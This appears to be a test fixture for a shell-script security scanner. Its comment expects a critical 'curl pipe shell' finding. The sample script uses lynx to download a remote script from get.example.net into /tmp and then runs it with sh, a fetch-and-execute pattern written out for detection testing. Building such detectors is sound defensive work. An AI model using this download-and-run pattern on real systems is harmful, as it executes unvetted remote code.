# expect: shell.curl_pipe_shell critical
#!/bin/sh
lynx -dump https://get.example.net/i.sh > /tmp/i.sh
sh /tmp/i.sh
